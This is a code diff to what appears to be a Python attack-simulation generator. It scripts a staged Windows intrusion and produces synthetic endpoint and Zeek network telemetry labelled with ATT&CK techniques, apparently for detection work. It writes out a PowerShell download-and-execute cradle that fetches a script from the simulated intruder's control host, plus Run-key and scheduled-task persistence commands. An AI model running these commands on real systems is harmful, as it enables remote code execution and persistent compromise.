@@ -45,6 +45,7 @@ def play(stage: Stage) -> None:
     beacon(stage, victim, stage.at(day, 10, 6), hours=7)
     steal_passwords(stage, victim, stage.at(day, 11, 20), shell)
     spread(stage, victim, stage.at(day, 13, 5), administrator)
+    stay(stage, stage.at(day, 13, 12), administrator)
     take_domain(stage, victim, stage.at(day, 13, 20), administrator)
     end(stage, day, administrator)
 
@@ -72,11 +73,10 @@ def deliver(stage: Stage, victim: Person, at: int) -> None:
 
 def foothold(stage: Stage, victim: Person, at: int, document: str = "Order_4471.docm") -> Process:
     """Word starts a hidden, encoded PowerShell, which fetches the next stage and stays."""
-    world, intruder = stage.world, stage.intruder
-    windows, host, user = world.windows, world.company.computer(victim), account_of(victim)
-    script = (
-        f"IEX (New-Object Net.WebClient).DownloadString('http://{intruder.control_name}/u.ps1')"
-    )
+    windows, user = stage.world.windows, account_of(victim)
+    host = stage.world.company.computer(victim)
+    address = f"http://{stage.intruder.control_name}/u.ps1"
+    script = f"IEX (New-Object Net.WebClient).DownloadString('{address}')"
     outlook = windows.root(host, f"{OFFICE}OUTLOOK.EXE", user)
     cache = f"C:\\Users\\{user.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache"
     path = f"{cache}\\Content.Outlook\\8F2A\\{document}"
@@ -91,23 +91,7 @@ def foothold(stage: Stage, victim: Person, at: int, document: str = "Order_4471.
         at + SECOND, "T1105", "the script that PowerShell compiled downloads another", **where
     )
     windows.script(at + SECOND, host, user, script, step=block)
-    windows.resolve(at + SECOND, host, shell, intruder.control_name, intruder.control)
-    windows.connect(
-        at + 2 * SECOND, host, shell, (intruder.control, 80), name=intruder.control_name
-    )
-    world.zeek.lookup(
-        at + SECOND, host.address, DC.address, intruder.control_name, (intruder.control,)
-    )
-    fetched = stage.step(
-        at + 2 * SECOND,
-        "T1105",
-        f"a script is fetched from {intruder.control_name}",
-        hosts=(host.name,),
-        addresses=(host.address, intruder.control),
-    )
-    flow = Flow(host.address, intruder.control, 80, SECOND, 180, 214_000)
-    page = Request(intruder.control_name, "/u.ps1", "-", "text/plain", "u.ps1")
-    world.zeek.request(at + 2 * SECOND, flow, page, step=fetched)
+    _fetch(stage, host, at + 2 * SECOND, shell)
     program = f"C:\\Users\\{user.name}\\AppData\\Roaming\\TeamsHelper.exe"
     windows.create_file(at + 6 * SECOND, host, shell, program)
     stays = stage.step(
@@ -116,6 +100,25 @@ def foothold(stage: Stage, victim: Person, at: int, document: str = "Order_4471.
     key = f"HKU\\{user.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\TeamsHelper"
     windows.set_value(at + 7 * SECOND, host, shell, (key, program), step=stays)
     return shell
+
+
+def _fetch(stage: Stage, host: Host, at: int, shell: Process) -> None:
+    world, windows, intruder = stage.world, stage.world.windows, stage.intruder
+    windows.resolve(at - SECOND, host, shell, intruder.control_name, intruder.control)
+    windows.connect(at, host, shell, (intruder.control, 80), name=intruder.control_name)
+    world.zeek.lookup(
+        at - SECOND, host.address, DC.address, intruder.control_name, (intruder.control,)
+    )
+    fetched = stage.step(
+        at,
+        "T1105",
+        f"a script is fetched from {intruder.control_name}",
+        hosts=(host.name,),
+        addresses=(host.address, intruder.control),
+    )
+    flow = Flow(host.address, intruder.control, 80, SECOND, 180, 214_000)
+    page = Request(intruder.control_name, "/u.ps1", "-", "text/plain", "u.ps1")
+    world.zeek.request(at, flow, page, step=fetched)
 
 
 def beacon(stage: Stage, victim: Person, at: int, *, hours: int) -> None:
@@ -203,6 +206,19 @@ def spread(stage: Stage, victim: Person, at: int, administrator: Account) -> Non
         host.address, FILES.address, 445, 40 * SECOND, 900_000, 40_000, service="gssapi,smb,dce_rpc"
     )
     stage.world.zeek.flow(at - 2000, flow)
+
+
+def stay(stage: Stage, at: int, administrator: Account) -> None:
+    """A task starts the program on the file server every day, as SYSTEM."""
+    step = stage.step(
+        at,
+        "T1053.005",
+        "a scheduled task starts a program from a public folder",
+        hosts=(FILES.name,),
+        users=(administrator.name,),
+    )
+    command = r"C:\Users\Public\sync.exe -s"
+    stage.world.windows.task(at, FILES, administrator, r"\Sync Center Update", command, step=step)
 
 
 def take_domain(stage: Stage, victim: Person, at: int, administrator: Account) -> None:
